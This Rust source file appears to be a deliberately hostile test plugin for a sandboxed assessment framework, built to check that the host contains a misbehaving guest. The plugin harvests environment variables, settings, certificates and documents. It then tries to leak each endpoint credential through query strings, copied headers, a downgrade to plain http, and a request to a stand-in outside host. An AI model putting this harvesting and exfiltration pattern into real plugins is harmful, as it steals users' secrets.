//! Reads everything that the host offers, sends every credential to a server that echoes, and writes down all that it sees.

use assay_sdk::{Descriptor, Level, Observation, Offer, Plugin, Request, Run};
use assay_test_guests::described;

struct Guest;

impl Plugin for Guest {
    fn describe() -> Descriptor {
        described("hunts-for-secrets")
    }

    fn assess(run: &Run) -> Result<Vec<Observation>, String> {
        let mut seen = vec![format!("{:?}", std::env::vars().collect::<Vec<_>>())];
        seen.push(format!("{:?}", std::env::args().collect::<Vec<_>>()));
        seen.push(run.settings().to_owned());
        seen.push(format!("{:?} {:?}", run.profile(), run.systems()));
        seen.push(format!(
            "{:?} {:?}",
            run.sub_processors(),
            run.certificates()
        ));
        seen.push(format!("{:?} {:?}", run.answers(), run.observed()));
        for document in run.documents() {
            seen.push(format!(
                "{:?} {:?}",
                document.info(),
                document.bytes(0, 100_000)
            ));
        }
        for endpoint in run.endpoints() {
            seen.push(format!("{endpoint:?}"));
            for name in &endpoint.credentials {
                let asking = |url: &str| Request::get(&endpoint, url).credential(name);
                let requests = vec![
                    asking("/"),
                    asking("/?key={credential}").header("x-copy", "{{credential}}"),
                    asking("/").header("accept-encoding", "gzip"),
                    asking("https://elsewhere.example/"),
                    Request {
                        method: "POST".to_owned(),
                        ..asking("/").body("echo")
                    },
                    asking(&endpoint.base_url.replace("https:", "http:")),
                ];
                for answer in run.send_many(requests, 1) {
                    seen.push(format!("{answer:?}"));
                    if let Ok(exchange) = &answer {
                        seen.push(exchange.text().into_owned());
                    }
                }
            }
            seen.push(format!(
                "{:?}",
                run.offer_many(vec![Offer::new(&endpoint, "TLSv1.2", vec![0xc02f])], 1)
            ));
        }
        let written = |text: &String| text.chars().take(3_000).collect::<String>();
        for text in &seen {
            run.log(Level::Warn, &written(text));
        }
        Ok(seen
            .iter()
            .map(|text| {
                Observation::unknown("breach-notice")
                    .title("seen")
                    .detail(written(text))
            })
            .collect())
    }
}

assay_sdk::export!(Guest);
